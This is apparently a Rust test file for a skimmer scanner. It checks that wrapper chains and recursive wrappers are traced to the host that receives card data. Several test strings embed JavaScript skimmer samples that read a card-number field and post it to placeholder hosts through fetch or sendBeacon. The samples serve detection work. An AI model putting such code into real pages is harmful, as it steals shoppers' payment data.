//! Functions and objects as values (issue 9, classes 1 and 2): wrappers of wrappers whose URL
//! is whole only at the outermost call, constructors and their prototypes, ES classes and
//! class fields, `Proxy` apply traps, choices between two senders, functions built from
//! strings and called later, and card fields in markup the script writes. Each technique has
//! skimmers of different shapes and a legitimate look-alike that must stay quiet.

mod engine_support;
use engine_support::{analyse, check_dir};
use skimscan::finding::Severity;

#[test]
fn functions_and_objects_as_values_are_followed_and_look_alikes_stay_quiet() {
    let (skim, legit) = check_dir("functions");
    assert!(
        skim >= 17 && legit >= 7,
        "{skim} skimmers, {legit} legitimate"
    );
}

/// Each outermost call of a wrapper chain is its own context: the card posted through the
/// inner helper to the shop is not blamed on the logger's outer calls, and the logger's host
/// is named for what the logger sends.
#[test]
fn a_wrapper_chain_resolves_each_outermost_call_with_its_own_data() {
    let code = "function low(u, b) { fetch(u, { method: 'POST', body: b }); }\n\
                function mid(p, d) { low('https://logs.vendor-one.example' + p, d); }\n\
                mid('/err', 'boom');\n\
                function pay(p, d) { low('https://cards.outside-two.example' + p, d); }\n\
                pay('/in', document.getElementById('cc_number').value);";
    let r = analyse("chain.js", code);
    let exfil: Vec<_> = r
        .findings
        .iter()
        .filter(|f| f.rule == "payment-data-exfiltration")
        .collect();
    assert!(
        exfil
            .iter()
            .any(|f| f.hosts.iter().any(|h| h == "cards.outside-two.example")),
        "{:?}",
        r.findings
    );
    assert!(
        exfil
            .iter()
            .all(|f| f.hosts.iter().all(|h| h != "logs.vendor-one.example")),
        "{:?}",
        r.findings
    );
}

/// A recursive wrapper (a retry that calls itself) ends: contexts of a function being
/// computed are not asked for again.
#[test]
fn a_recursive_wrapper_does_not_loop() {
    let code = "function retry(u, d, n) { if (n > 0) { retry(u, d, n - 1); } else { navigator.sendBeacon(u, d); } }\n\
                function go(p, d) { retry('https://retry-loop.example' + p, d, 3); }\n\
                go('/c', document.getElementById('cc_number').value);";
    let r = analyse("retry.js", code);
    assert!(r.errors.is_empty(), "{:?}", r.errors);
    assert!(
        r.findings.iter().any(|f| f.severity == Severity::Critical
            && f.hosts.iter().any(|h| h == "retry-loop.example")),
        "{:?}",
        r.findings
    );
}
